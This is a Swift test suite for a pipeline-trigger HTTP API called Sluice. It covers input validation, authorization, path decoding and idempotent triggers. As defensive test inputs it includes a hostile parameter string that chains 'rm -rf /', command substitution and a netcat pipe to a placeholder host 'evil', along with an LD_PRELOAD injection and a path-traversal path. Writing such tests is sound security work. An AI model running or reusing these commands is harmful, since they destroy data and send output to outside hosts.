import Foundation
import HTTP
import JobStore
import Testing

@testable import Sluice

extension AppTests {
    @Test("A trigger is 202 with a Location under the mount path, and the job is stored with resolved argv and defaults")
    func trigger() throws {
        let h = try AppHarness()
        defer { h.remove() }
        let response = h.trigger(#"{"params": {"date": "2024-05-01"}}"#)
        #expect(response.status.code == 202)
        let json = try AppHarness.json(response)
        let id = try #require(json["id"] as? Int)
        #expect(response.header("Location") == "/sluice/api/v1/jobs/\(id)")
        #expect(json["state"] as? String == "queued")
        #expect(json["params"] as? [String: String] == ["date": "2024-05-01", "env": "staging"])
        let job = try #require(try h.store.job(id: Int64(id)))
        #expect(job.pipeline == "etl-nightly")
        #expect(job.triggeredBy == "bob")
        #expect(job.identitySource == "remote_user")
        #expect(job.params == ["date": "2024-05-01", "env": "staging"])
        #expect(job.workingDirectory == h.configuration.directory)
        #expect(job.tasks.map(\.name) == ["extract", "load"])
        #expect(job.tasks.map(\.argv) == [["./bin/extract", "--date", "2024-05-01"], ["./bin/load", "--env=staging"]])
        #expect(job.tasks[1].needs == ["extract"])
    }

    @Test("A hostile parameter value stays one whole argv element")
    func hostileParameterValue() throws {
        let h = try AppHarness()
        defer { h.remove() }
        let hostile = "2024-05-01; rm -rf / $(id) `id` && echo \\\"x\\\" | nc evil 1"
        let response = h.trigger(#"{"params": {"date": "\#(hostile)", "env": "--help"}}"#)
        #expect(response.status.code == 202)
        let job = try #require(try h.store.jobs(.init()).first.flatMap { try h.store.job(id: $0.id) })
        #expect(job.tasks[0].argv == ["./bin/extract", "--date", "2024-05-01; rm -rf / $(id) `id` && echo \"x\" | nc evil 1"])
        #expect(job.tasks[1].argv == ["./bin/load", "--env=--help"])
    }

    @Test("A charset parameter and upper case are allowed in the content type")
    func contentTypeVariants() throws {
        let h = try AppHarness()
        defer { h.remove() }
        for type in ["application/json; charset=utf-8", "APPLICATION/JSON", "application/json ;charset=UTF-8"] {
            let response = h.send(
                "POST", "/api/v1/pipelines/etl-nightly/jobs", body: #"{"params":{"date":"d"}}"#, contentType: type)
            #expect(response.status.code == 202, "\(type)")
        }
    }

    @Test(
        "A trigger with a missing or wrong content type is 415",
        arguments: [
            nil, "", "text/plain", "application/x-www-form-urlencoded", "application/json-patch+json", "text/json", "multipart/form-data",
        ])
    func wrongContentType(type: String?) throws {
        let h = try AppHarness()
        defer { h.remove() }
        let response = h.send("POST", "/api/v1/pipelines/etl-nightly/jobs", body: #"{"params":{"date":"d"}}"#, contentType: type)
        #expect(response.status.code == 415)
        _ = try AppHarness.jsonError(response)
        #expect(try h.store.jobs(.init()).isEmpty)
    }

    @Test(
        "A trigger body that is not a JSON object is 400",
        arguments: [
            "", "not json", "{", "[]", "[{\"params\":{}}]", "\"params\"", "null", "42", "{params: {date: 'x'}}", "{\"params\":{}} trailing",
        ])
    func malformedBody(body: String) throws {
        let h = try AppHarness()
        defer { h.remove() }
        let response = h.trigger(body)
        #expect(response.status.code == 400)
        _ = try AppHarness.jsonError(response)
        #expect(try h.store.jobs(.init()).isEmpty)
    }

    @Test("A deeply nested trigger body is 400, not a crash")
    func deeplyNestedBody() throws {
        let h = try AppHarness()
        defer { h.remove() }
        let body = #"{"params": "# + String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000) + "}"
        #expect(h.trigger(body).status.code == 400)
    }

    @Test("An unknown top-level member is 400 and named")
    func unknownMember() throws {
        let h = try AppHarness()
        defer { h.remove() }
        let response = h.trigger(#"{"params": {"date": "d"}, "pipeline": "secret"}"#)
        #expect(response.status.code == 400)
        #expect((try AppHarness.jsonError(response)["message"] as? String)?.contains("\"pipeline\"") == true)
        #expect(try h.store.jobs(.init()).isEmpty)
    }

    @Test(
        "params that is not an object is 400",
        arguments: [#"{"params": []}"#, #"{"params": "date=x"}"#, #"{"params": null}"#, #"{"params": 1}"#])
    func paramsNotObject(body: String) throws {
        let h = try AppHarness()
        defer { h.remove() }
        let response = h.trigger(body)
        #expect(response.status.code == 400)
        #expect((try AppHarness.jsonError(response)["message"] as? String)?.contains("params") == true)
    }

    @Test(
        "A parameter value that is not a string is 400 with a field error",
        arguments: [#"20240501"#, #"true"#, #"null"#, #"["2024"]"#, #"{"y": 2024}"#])
    func nonStringParameter(value: String) throws {
        let h = try AppHarness()
        defer { h.remove() }
        let response = h.trigger(#"{"params": {"date": \#(value), "env": "prod"}}"#)
        #expect(response.status.code == 400)
        let fields = try #require(try AppHarness.jsonError(response)["fields"] as? [String: String])
        #expect(fields.keys.sorted() == ["date"])
        #expect(fields["date"]?.contains("must be a string") == true)
        #expect(try h.store.jobs(.init()).isEmpty)
    }

    @Test("An undeclared parameter is 400 with a field error")
    func undeclaredParameter() throws {
        let h = try AppHarness()
        defer { h.remove() }
        let response = h.trigger(#"{"params": {"date": "d", "LD_PRELOAD": "/tmp/x.so"}}"#)
        #expect(response.status.code == 400)
        let fields = try #require(try AppHarness.jsonError(response)["fields"] as? [String: String])
        #expect(fields.keys.sorted() == ["LD_PRELOAD"])
        #expect(try h.store.jobs(.init()).isEmpty)
    }

    @Test("A missing required parameter is 400 with a field error", arguments: ["{}", #"{"params": {}}"#, #"{"params": {"env": "prod"}}"#])
    func missingRequired(body: String) throws {
        let h = try AppHarness()
        defer { h.remove() }
        let response = h.trigger(body)
        #expect(response.status.code == 400)
        let error = try AppHarness.jsonError(response)
        #expect(error["fields"] as? [String: String] == ["date": "required"])
        #expect(try h.store.jobs(.init()).isEmpty)
    }

    @Test("An oversized or NUL-carrying parameter value is 400 with a field error")
    func oversizedAndNulValues() throws {
        let h = try AppHarness()
        defer { h.remove() }
        let long = h.trigger(#"{"params": {"date": "\#(String(repeating: "9", count: 4097))"}}"#)
        #expect(long.status.code == 400)
        #expect((try AppHarness.jsonError(long)["fields"] as? [String: String])?["date"]?.contains("longer than") == true)
        let nul = h.trigger(#"{"params": {"date": "2024\u0000-05-01"}}"#)
        #expect(nul.status.code == 400)
        #expect((try AppHarness.jsonError(nul)["fields"] as? [String: String])?["date"]?.contains("NUL") == true)
        #expect(h.trigger(#"{"params": {"date": "\#(String(repeating: "9", count: 4096))"}}"#).status.code == 202)
    }

    @Test("A user without view on a pipeline gets 404 for it and for triggering it")
    func invisiblePipeline() throws {
        let h = try AppHarness()
        defer { h.remove() }
        let hidden = h.send("GET", "/api/v1/pipelines/secret")
        let missing = h.send("GET", "/api/v1/pipelines/no-such-pipeline")
        #expect(hidden.status.code == 404)
        #expect(missing.status.code == 404)
        #expect(hidden.body == missing.body)
        let trigger = h.trigger("{}", pipeline: "secret")
        #expect(trigger.status.code == 404)
        #expect(trigger.body == h.trigger("{}", pipeline: "no-such-pipeline").body)
        #expect(try h.store.jobs(.init()).isEmpty)
        // The owner sees and triggers it.
        #expect(h.send("GET", "/api/v1/pipelines/secret", user: "sam").status.code == 200)
        #expect(h.trigger("{}", pipeline: "secret", user: "sam").status.code == 202)
    }

    @Test("A user who may only view gets 403 when triggering")
    func viewOnlyTrigger() throws {
        let h = try AppHarness()
        defer { h.remove() }
        let response = h.trigger(user: "vera")
        #expect(response.status.code == 403)
        _ = try AppHarness.jsonError(response)
        #expect(try h.store.jobs(.init()).isEmpty)
    }

    @Test("A user with no role at all sees no pipeline")
    func noRole() throws {
        let h = try AppHarness()
        defer { h.remove() }
        #expect(h.trigger(user: "mallory").status.code == 404)
        let list = try AppHarness.json(h.send("GET", "/api/v1/pipelines", user: "mallory"))
        #expect((list["pipelines"] as? [Any])?.isEmpty == true)
    }

    @Test("Authorization is checked before the body is read")
    func authorizationBeforeValidation() throws {
        let h = try AppHarness()
        defer { h.remove() }
        #expect(h.send("POST", "/api/v1/pipelines/secret/jobs", body: "garbage", contentType: "text/plain").status.code == 404)
        #expect(
            h.send("POST", "/api/v1/pipelines/etl-nightly/jobs", user: "vera", body: "garbage", contentType: "text/plain").status.code
                == 403)
    }

    @Test("The pipeline list and detail show only visible pipelines, with the parameter schema and my verbs")
    func pipelines() throws {
        let h = try AppHarness()
        defer { h.remove() }
        let list = try AppHarness.json(h.send("GET", "/api/v1/pipelines"))
        let pipelines = try #require(list["pipelines"] as? [[String: Any]])
        #expect(pipelines.map { $0["name"] as? String } == ["etl-nightly"])
        let detail = try AppHarness.json(h.send("GET", "/api/v1/pipelines/etl-nightly"))
        #expect(detail["verbs"] as? [String] == ["view", "trigger", "cancel", "retry", "logs"])
        #expect(detail["description"] as? String == "Load <b>orders</b>")
        let params = try #require(detail["params"] as? [[String: Any]])
        #expect(params.map { $0["name"] as? String } == ["date", "env"])
        #expect(params.map { $0["required"] as? Bool } == [true, false])
        let vera = try AppHarness.json(h.send("GET", "/api/v1/pipelines/etl-nightly", user: "vera"))
        #expect(vera["verbs"] as? [String] == ["view"])
    }

    @Test("Pipeline names in the path are percent-decoded and an encoded slash does not escape the segment")
    func encodedPipelineNames() throws {
        let h = try AppHarness()
        defer { h.remove() }
        #expect(h.send("GET", "/api/v1/pipelines/etl%2Dnightly").status.code == 200)
        #expect(h.send("GET", "/api/v1/pipelines/etl-nightly%2F..%2Fsecret").status.code == 404)
        #expect(h.send("GET", "/api/v1/pipelines/%zz").status.code == 404)
        #expect(h.send("GET", "/api/v1/pipelines/%ff").status.code == 404)
    }
}

extension AppTests {
    /// The API trigger as the FastCGI front end hands it over, without resolving a parked answer.
    static func rawTrigger(_ h: AppHarness, date: String, key: String? = nil) -> HTTPResponse {
        let body = #"{"params": {"date": "\#(date)"}}"#
        let uri = "/sluice/api/v1/pipelines/etl-nightly/jobs"
        var params = [
            "REQUEST_METHOD": "POST", "REQUEST_URI": uri, "SCRIPT_NAME": "/sluice", "REMOTE_ADDR": "127.0.0.1",
            "REMOTE_USER": "bob", "CONTENT_TYPE": "application/json", "CONTENT_LENGTH": String(body.utf8.count),
        ]
        if let key { params["HTTP_IDEMPOTENCY_KEY"] = key }
        return h.app.respond(
            to: HTTPRequest(method: "POST", requestURI: uri, scriptName: "/sluice", paramsDictionary: params, body: Array(body.utf8)))
    }

    @Test(
        "An API trigger is parked while the store's committer commits it, then answered 202; past the parking limit it is answered on its thread"
    )
    func parkedTrigger() throws {
        let h = try AppHarness()
        defer { h.remove() }
        let parked = Self.rawTrigger(h, date: "2024-05-01", key: "k-1")
        #expect(parked.deferred != nil, "the trigger held its worker thread through the commit")
        let answer = AppHarness.answer(parked)
        #expect(answer.status.code == 202)
        let id = try #require(try AppHarness.json(answer)["id"] as? Int)
        #expect(answer.header("Location") == "/sluice/api/v1/jobs/\(id)")
        #expect(answer.header("X-Request-Id")?.isEmpty == false, "the parked answer missed the finishing touches")
        #expect(try h.store.job(id: Int64(id))?.pipeline == "etl-nightly")
        #expect(h.app.parkedTriggers.load(ordering: .relaxed) == 0)

        // A refusal is answered through the same path, with its status and audit record.
        let reused = Self.rawTrigger(h, date: "2024-05-09", key: "k-1")
        #expect(reused.deferred != nil)
        let refused = AppHarness.answer(reused)
        #expect(refused.status.code == 422)
        #expect(
            try AppHarness.jsonError(refused)["message"] as? String
                == "this Idempotency-Key was used for job \(id) with a different request")
        #expect(try h.store.auditRecords(AuditQuery()).contains { !$0.allowed && $0.jobID == Int64(id) })

        h.app.parkedTriggers.store(App.maxParkedTriggers, ordering: .relaxed)
        let onThread = Self.rawTrigger(h, date: "2024-05-02")
        #expect(onThread.deferred == nil)
        #expect(onThread.status.code == 202)
        h.app.parkedTriggers.store(0, ordering: .relaxed)
    }
}
